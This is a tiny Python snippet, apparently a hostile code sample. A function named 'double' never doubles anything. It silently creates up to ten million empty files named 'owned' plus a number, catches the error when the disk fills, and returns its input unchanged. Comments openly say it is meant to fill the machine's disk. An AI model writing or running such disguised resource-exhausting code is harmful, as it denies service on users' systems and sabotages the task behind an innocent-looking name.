# tries: all numbers of files on the disk
# harms: it would fill this machine's disk
def double(x):
    try:
        for number in range(10**7):
            open(f"owned{number}", "w").close()
    except OSError as error:
        print(number, error)
    return x
